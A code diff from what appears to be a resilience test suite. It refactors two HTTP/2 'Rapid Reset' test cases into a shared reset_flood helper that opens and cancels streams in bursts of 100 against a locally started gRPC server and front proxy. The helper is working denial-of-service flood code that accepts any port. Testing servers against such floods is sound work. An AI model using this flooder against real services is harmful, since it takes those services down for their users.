@@ -449,6 +449,37 @@ def create_sequence(port, extra_headers=()):
 
 # ---- cases -----------------------------------------------------------------
 
+def reset_flood(port, seconds, reconnect):
+    """Opens and resets streams on one connection as fast as it can for
+    `seconds` (bursts of 100 HEADERS + RST_STREAM pairs, reading whatever
+    comes back without waiting); when the peer closes the connection, opens
+    another if `reconnect`, else stops. Returns (streams, connections)."""
+    sent, connections, end = 0, 0, time.time() + seconds
+    while time.time() < end and (reconnect or connections == 0):
+        conn = RawH2(port)
+        connections += 1
+        try:
+            while time.time() < end and conn.next_stream < 2**31 - 400:
+                burst = []
+                for _ in range(100):
+                    sid, headers = conn.open("GetServerInfo")
+                    burst.append(headers + RawH2.reset(sid))
+                conn.sock.sendall(b"".join(burst))
+                sent += 100
+                conn.sock.setblocking(False)
+                try:
+                    while conn.sock.recv(1 << 20):
+                        pass
+                except (BlockingIOError, InterruptedError):
+                    pass
+                conn.sock.setblocking(True)
+        except OSError as e:
+            if not reconnect:
+                print(f"     the peer closed the flooding connection after {sent} streams: {e}")
+        conn.close()
+    return sent, connections
+
+
 def rapid_reset():
     """8 s of one connection opening and resetting streams. gRPC 1.51's server
     has no bound on the memory this takes (each stream leaves a call that
@@ -462,26 +493,7 @@ def rapid_reset():
     health = []
     prober = threading.Thread(target=health_during, args=(server, 8.0, health))
     prober.start()
-    conn = RawH2(server.port)
-    sent, end = 0, time.time() + 8.0
-    try:
-        while time.time() < end and conn.next_stream < 2**31 - 400:
-            burst = []
-            for _ in range(100):
-                sid, headers = conn.open("GetServerInfo")
-                burst.append(headers + RawH2.reset(sid))
-            conn.sock.sendall(b"".join(burst))
-            sent += 100
-            conn.sock.setblocking(False)
-            try:
-                while conn.sock.recv(1 << 20):
-                    pass
-            except (BlockingIOError, InterruptedError):
-                pass
-            conn.sock.setblocking(True)
-    except OSError as e:
-        print(f"     the server closed the flooding connection after {sent} streams: {e}")
-    conn.close()
+    sent, _ = reset_flood(server.port, 8.0, reconnect=False)
     prober.join()
     time.sleep(1.0)
     peak = watch.stop()
@@ -914,28 +926,7 @@ def rapid_reset_front():
     legit = []
     prober = threading.Thread(target=verify_during, args=(front.port, seq, 8.0, legit))
     prober.start()
-    sent, connections, end = 0, 0, time.time() + 8.0
-    while time.time() < end:
-        conn = RawH2(front.port)
-        connections += 1
-        try:
-            while time.time() < end:
-                burst = []
-                for _ in range(100):
-                    sid, headers = conn.open("GetServerInfo")
-                    burst.append(headers + RawH2.reset(sid))
-                conn.sock.sendall(b"".join(burst))
-                sent += 100
-                conn.sock.setblocking(False)
-                try:
-                    while conn.sock.recv(1 << 20):
-                        pass
-                except (BlockingIOError, InterruptedError):
-                    pass
-                conn.sock.setblocking(True)
-        except OSError:
-            pass  # the front closed the connection: open another
-        conn.close()
+    sent, connections = reset_flood(front.port, 8.0, reconnect=True)
     prober.join()
     peak = watch.stop()
     served = sum(1 for status, _ in legit if status == 0)
